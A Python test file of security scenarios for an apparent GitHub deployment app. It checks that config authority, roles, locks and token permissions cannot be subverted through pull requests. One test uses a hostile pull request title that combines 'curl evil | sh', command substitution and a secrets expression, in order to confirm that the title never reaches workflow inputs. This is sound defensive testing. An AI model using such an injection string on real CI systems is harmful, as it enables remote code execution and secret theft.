"""Authority comes from the default branch and the current GitHub roles, never from the contents of a pull request."""

from dataclasses import replace
from pathlib import Path

from ghapp.adapters.github.permissions import levels
from tests.scenarios.scene import SMALL_CONFIG, Scene, scene
from tests.scenarios.test_trouble import merged

LAX = "environments: {production: {workflow: other.yml, deployers: [read], require: {checks: none, merged: false}}}\n"


async def test_a_pull_request_cannot_grant_itself_a_release(shop: Scene) -> None:
    """The config on its own branch would allow its author and an unmerged release; it is not read."""
    shop.shop.people["ken"] = "read"
    pull = await shop.opens("ken", files={".github/ghapp.yml": LAX})
    await shop.says("ken", "/deploy", on=pull)
    assert shop.codes(pull) == ["not_allowed"]
    await shop.says("mona", "/deploy production", on=pull)
    assert shop.codes(pull) == ["not_allowed", "not_merged"]
    assert shop.runs() == []


async def test_a_side_branch_with_a_config_of_its_own_changes_nothing(shop: Scene) -> None:
    """A pull request merged into a side branch is not one of production's, whatever that branch's config allows."""
    shop.shop.git.branches["side"] = shop.shop.head
    pull = await shop.opens("mona", files={".github/ghapp.yml": LAX}, base="side")
    await shop.merges("mona", pull)
    await shop.says("mona", "/deploy production", on=pull)
    assert shop.codes(pull) == ["other_branch"]
    assert shop.runs() == []


async def test_a_member_of_the_organization_without_a_role_may_not_deploy(shop: Scene) -> None:
    """The comment's author association does not grant rights in this repository."""
    pull = await merged(shop)
    shop.shop.people["ken"] = "triage"
    await shop.says("ken", "/deploy", on=pull)
    assert shop.codes(pull) == ["not_allowed"]


async def test_a_role_that_was_just_removed_no_longer_counts(shop: Scene) -> None:
    """GitHub is asked for the role each time; roles are not cached."""
    first = await shop.released("taro")
    await shop.says("taro", "/unlock", on=first)
    second = await merged(shop, "taro")
    shop.shop.people["taro"] = "read"
    await shop.says("taro", "/deploy", on=second)
    assert shop.codes(second)[-1] == "not_allowed"
    assert len(shop.runs()) == 1


async def test_text_written_by_people_never_reaches_the_workflow(shop: Scene) -> None:
    """Titles, branch names and reasons are not inputs: these are a commit, a name from the config, and a number."""
    title = '"; curl evil | sh #`$(id)`${{ secrets.X }}'
    pull = await shop.opens("taro", title)
    await shop.merges("taro", pull)
    await shop.says("taro", "/deploy production", on=pull)
    (run,) = shop.runs()
    assert set(run.inputs) == {"sha", "environment", "ghapp"}
    assert (run.inputs["sha"], run.inputs["environment"]) == (pull.merge_commit_sha, "production")
    assert "evil" not in run.display_title


async def test_a_broken_config_starts_nothing_and_locks_can_still_be_ended(shop: Scene) -> None:
    """`/deploy` is refused with line and reason; a hold under the last valid config can still be ended."""
    first = await shop.released("taro")
    second = await merged(shop, "mona")
    broken = SMALL_CONFIG.replace("workflow", "workfow")
    await shop.shop.commit(".github/ghapp.yml", broken, by="mona", message="Break it")
    await shop.idle()
    await shop.says("mona", "/deploy", on=second)
    assert shop.codes(second)[-1] == "config_invalid"
    await shop.says("taro", "/unlock", on=first)
    assert shop.codes(first)[-1] == "unlocked"
    assert len(shop.runs()) == 1


async def test_another_persons_lock_is_ended_only_by_an_unlocker_with_a_reason(shop: Scene) -> None:
    """The holder of the lock is mentioned."""
    config = SMALL_CONFIG.replace("deploy.yml", "deploy.yml, unlockers: [mona]")
    await shop.shop.commit(".github/ghapp.yml", config, by="mona", message="Name the unlocker")
    pull = await merged(shop)
    await shop.says("taro", "/lock production 1h migrating", on=pull)
    await shop.says("hanako", "/unlock production let me", on=pull)
    await shop.says("mona", "/unlock production", on=pull)
    assert shop.codes(pull)[-2:] == ["not_allowed", "reason_needed"]
    await shop.says("mona", "/unlock production the migration is done", on=pull)
    told = next(text for text in shop.replies(pull) if "the migration is done" in text)
    assert "@taro" in told


async def test_a_permission_that_is_not_accepted_yet_stops_nothing_else(tmp_path: Path) -> None:
    """A new version requests more permissions: until the owner accepts them, ghapp works with the granted ones."""
    async with scene(tmp_path) as shop:
        before = {name: level for name, level in shop.github.app.permissions.items() if name != "deployments"}
        shop.github.app = replace(shop.github.app, permissions=before | {"actions": "write", "contents": "write"})
        await shop.restart()
        pull = await shop.released("taro")
        assert any(text.startswith("✅") for text in shop.replies(pull))
        assert shop.shop.deployments == {}
        narrow = [one.request["permissions"] for one in shop.calls("POST", "/access_tokens") if one.status == 201]
        assert narrow[-1] == {name: level for name, level in levels("repository").items() if name != "deployments"}
